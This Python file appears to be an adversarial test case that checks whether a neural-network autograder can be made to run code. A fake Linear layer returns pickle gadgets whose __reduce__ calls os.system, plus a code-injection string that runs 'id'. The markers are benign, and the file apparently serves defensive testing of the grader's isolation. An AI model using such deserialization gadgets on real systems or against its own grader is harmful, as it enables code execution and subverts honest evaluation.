"""
Tries: to have the grader unpickle, copy or call something that then runs there.
Expected: everything wrong
"""

import pickle

MARK = "/tmp/attacked-file"


class Gadget:
    def __reduce__(self):
        say("GOT: it was pickled")
        return (os.system, (f"touch {MARK}",))

    __reduce_ex__ = __copy__ = __deepcopy__ = lambda self, *args: self.__reduce__()
    __getstate__ = __reduce__


PICKLED = pickle.dumps(print)
GADGETS = [Gadget(), [Gadget()], {"__reduce__": Gadget()}, PICKLED, np.array([Gadget()], dtype=object)]
GADGETS += [np.frombuffer(PICKLED, np.uint8), "__import__('os').system('id')", eval, type, sys]


class Linear:
    turn = 0

    def __init__(self, in_features, out_features):
        self.W, self.b = self.gadget(), self.gadget()

    def gadget(self):
        Linear.turn += 1
        gadget = GADGETS[Linear.turn % len(GADGETS)]
        attempt(f"returned a {type(gadget).__name__}", lambda: None)
        return gadget

    def forward(self, A):
        self.A, self.N = self.gadget(), self.gadget()
        return self.gadget()

    def backward(self, dLdZ):
        self.dLdW, self.dLdb = self.gadget(), self.gadget()
        return self.gadget()
